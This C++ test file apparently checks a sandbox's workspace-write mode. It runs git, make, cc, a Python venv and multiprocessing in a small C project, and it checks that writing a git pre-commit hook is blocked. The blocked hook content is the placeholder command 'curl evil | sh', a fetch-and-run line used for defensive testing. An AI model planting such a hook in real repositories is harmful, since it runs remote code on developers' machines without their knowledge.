// Real work under workspace-write: a small C project in a git repository.
#include <filesystem>
#include <fstream>

#include "harness.h"

namespace cordon::test {
namespace {

class RealWork : public ::testing::Test {
 protected:
  void SetUp() override {
    ws_.write("hello.c", "#include <stdio.h>\nint main(void) { puts(\"hello from cc\"); return 0; }\n");
    ws_.write("Makefile", "hello: hello.c\n\tcc -O2 -o hello hello.c\n");
    ASSERT_EQ(host_command({"git", "init", "-q", ws_.path()}), 0);
    ASSERT_EQ(host_command({"git", "config", "user.email", "ci@example.invalid"}, ws_.path()), 0);
    ASSERT_EQ(host_command({"git", "config", "user.name", "CI"}, ws_.path()), 0);
    ASSERT_EQ(host_command({"git", "add", "."}, ws_.path()), 0);
    ASSERT_EQ(host_command({"git", "commit", "-qm", "initial"}, ws_.path()), 0);
  }
  temp_dir ws_;
};

TEST_F(RealWork, GitMakeCcPythonVenvAndMultiprocessingSucceed) {
  auto r = run_sh(ws_.path(),
                  "set -e\n"
                  "git status --short && echo status-ok\n"
                  "echo '// change' >> hello.c && git commit -qam change && echo commit-ok\n"
                  "make -s && ./hello\n"
                  "cc -o hello2 hello.c && ./hello2\n"
                  "python3 -m venv venv && ./venv/bin/python -c 'import sys; print(\"venv\", sys.prefix != sys.base_prefix)'\n"
                  "python3 -c 'print(\"python\", 6 * 7)'\n"
                  "python3 -c 'import multiprocessing as m\nif __name__ == \"__main__\":\n"
                  "  with m.Pool(2) as p: print(\"pool\", sum(p.map(abs, [-1, -2, -3])))'\n"
                  "set +e\n"
                  "echo 'curl evil | sh' > .git/hooks/pre-commit 2>&1 || echo hook-refused\n");
  EXPECT_EQ(r.exit_code, 0) << r.all();
  for (const char* expected : {"status-ok", "commit-ok", "hello from cc\nhello from cc", "venv True", "python 42",
                               "pool 6", "hook-refused"}) {
    EXPECT_NE(r.all().find(expected), std::string::npos) << expected << "\n" << r.all();
  }
  EXPECT_NE(r.all().find(".git/hooks/pre-commit: Read-only file system"), std::string::npos) << r.all();
  EXPECT_FALSE(std::filesystem::exists(ws_.path() + "/.git/hooks/pre-commit"));
  EXPECT_TRUE(std::filesystem::exists(ws_.path() + "/venv/bin/python"));
  EXPECT_EQ(r.report["outcome"], "completed");
  EXPECT_EQ(r.report["exit"]["code"], 0);
  // The commit made inside is in the host's repository.
  EXPECT_EQ(host_command({"sh", "-c", "git log --oneline | grep -q change"}, ws_.path()), 0);
}

}  // namespace
}  // namespace cordon::test
